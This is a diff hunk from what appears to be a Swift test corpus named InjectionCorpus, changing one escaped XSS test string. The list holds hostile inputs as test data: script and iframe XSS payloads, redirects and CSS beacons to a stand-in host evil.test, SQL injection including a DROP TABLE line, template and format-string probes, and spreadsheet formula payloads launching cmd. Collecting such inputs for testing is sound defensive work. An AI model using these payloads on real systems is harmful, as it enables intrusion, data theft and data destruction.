@@ -12,7 +12,7 @@ enum InjectionCorpus {
         "<iframe srcdoc=\"<script>alert(1)</script>\">",
         "<base href=//evil.test>", "<meta http-equiv=refresh content=0;url=//evil.test>", "<form action=//evil.test><button>",
         "<style>*{background:url(//evil.test)}</style>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
-        "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
+        "\\x3cscript\\x3ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
         "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
         "%n%n%s%p", "'; DROP TABLE account; --", "' OR '1'='1", "=HYPERLINK(\"//evil.test\";\"x\")",
         "@SUM(1+1)*cmd|' /C calc'!A0",
